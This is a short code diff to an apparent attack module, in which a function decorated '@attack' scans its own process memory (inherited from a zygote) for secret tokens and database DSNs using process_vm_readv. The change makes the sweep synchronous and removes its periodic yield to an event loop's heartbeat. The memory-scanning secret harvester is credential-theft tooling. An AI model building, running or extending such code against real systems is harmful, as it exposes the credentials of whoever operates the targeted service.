@@ -141,14 +141,12 @@ _SECRET_PATTERNS = (
 
 
 @attack
-async def env_memory(args):
+def env_memory(args):
     """Scan this process's own memory (inherited from the zygote) for tokens and DSNs.
 
     /proc/self/maps is not needed: ``process_vm_readv`` on our own pid reads any mapped range and
     fails cleanly (EFAULT) on unmapped ones, so the address space is swept in 64 KiB steps around
     a few anchors: the malloc heap (program break), mmap'ed memory next to libc, Python objects.
-    The sweep yields to the event loop every 16 MB of addresses: it takes seconds on a busy
-    machine, and a module that blocks its loop that long is killed for a missed heartbeat.
     """
     maps = attempt(_read("/proc/self/maps"))
     pid = os.getpid()
@@ -183,8 +181,6 @@ async def env_memory(args):
     for start, end in merged:
         segment = bytearray()
         for address in range(start, end, chunk):
-            if address % (16 * MB) == 0:
-                await asyncio.sleep(0)  # the heartbeat's answer
             data = read(address)
             if data is not None:
                 readable += len(data)
